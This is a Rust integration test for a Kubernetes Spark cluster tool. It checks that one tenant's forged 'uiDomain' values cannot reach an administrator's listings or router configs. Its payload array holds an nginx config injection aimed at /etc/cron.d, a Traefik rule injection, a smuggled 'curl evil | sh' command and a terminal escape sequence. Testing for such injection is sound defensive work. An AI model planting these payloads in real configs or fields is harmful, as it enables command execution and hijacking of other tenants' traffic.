//! What a tenant of the same Kubernetes cluster can do from its own namespace to an administrator who looks at all namespaces.

use std::time::Duration;

use serde_json::{Value, json};

use crate::kit::{FORMATS, Sandbox, render_all, run};

/// Would write a file, take each tenant's host, run a command, and clear the screen.
const DOMAINS: [&str; 4] = [
    "x 1.2.3.4:80;\n}\naccess_log /etc/cron.d/evil;\nserver {",
    "x`) || HostRegexp(`.*",
    "x'; curl evil | sh; '",
    "evil\u{1b}[2J",
];

/// A tenant's namespace with an inventory for each domain, and a pod whose labels are a worker's.
fn tenant(sandbox: &Sandbox) {
    for (at, domain) in DOMAINS.iter().enumerate() {
        let name = format!("tenant-{at}");
        let rendered = run(&["render", &name, "--masters", "1"]).exits(0).stdout;
        let inventory = rendered
            .split("---\n")
            .find(|object| object.contains(&format!("name: {name}-sparkha\n")));
        sandbox.apply(inventory.unwrap());
        let object = ["get", "configmap", &format!("{name}-sparkha"), "-o", "json"];
        let mut inventory: Value = serde_json::from_str(&sandbox.kubectl(&object)).unwrap();
        let mut cluster: Value = serde_json::from_str(inventory["data"]["cluster.json"].as_str().unwrap()).unwrap();
        cluster["uiDomain"] = json!(domain);
        inventory["data"]["cluster.json"] = json!(cluster.to_string());
        sandbox.apply(&inventory.to_string());
        let labels = json!({
            "app.kubernetes.io/name": "spark", "app.kubernetes.io/managed-by": "sparkha",
            "app.kubernetes.io/instance": name, "app.kubernetes.io/component": "worker",
        });
        let pod = json!({
            "apiVersion": "v1", "kind": "Pod", "metadata": {"name": format!("{name}-worker-0"), "labels": labels},
            "spec": {
                "terminationGracePeriodSeconds": 0, "automountServiceAccountToken": false,
                "containers": [{"name": "worker", "image": "docker.io/apache/spark:4.3.0", "command": ["sleep", "3600"]}],
            },
        });
        sandbox.apply(&pod.to_string());
    }
    sandbox.wait_for(Duration::from_secs(60), "the tenant's pods", || {
        let addresses = sandbox.kubectl(&["get", "pods", "-o", "jsonpath={.items[*].status.podIP}"]);
        addresses.split_whitespace().count() == DOMAINS.len()
    });
}

#[test]
fn what_another_tenant_writes_reaches_nobody_elses_router_or_terminal() {
    let sandbox = Sandbox::new("tenants");
    tenant(&sandbox);
    let lists = [["list", "-A"].to_vec(), ["list", "-A", "-o", "json"].to_vec()];
    for command in FORMATS.map(render_all).into_iter().chain(lists) {
        let told = sandbox.run(&command).exits(0);
        for word in ["evil", "1.2.3.4", "HostRegexp", "tenant-"] {
            assert!(!told.stdout.contains(word), "{command:?}: {}", told.stdout);
        }
        assert!(!told.stderr.contains('\u{1b}'), "{command:?}: {}", told.stderr);
        // Whoever looks learns whose it is.
        let left_out = format!(
            "namespace {}: ConfigMap tenant-0-sparkha is not an inventory",
            sandbox.namespace
        );
        assert!(told.stderr.contains(&left_out), "{command:?}: {}", told.stderr);
    }
    // Nor does it serve whoever takes the name for their own cluster's.
    for command in [
        ["status", "tenant-3"].to_vec(),
        ["teardown", "tenant-3", "--yes"].to_vec(),
    ] {
        let told = sandbox.run(&command);
        assert_ne!(told.code, Some(0), "{}", told.stdout);
        assert!(told.stderr.contains("is not a valid domain name"), "{}", told.stderr);
        assert!(!told.stderr.contains('\u{1b}'), "{}", told.stderr);
    }
}
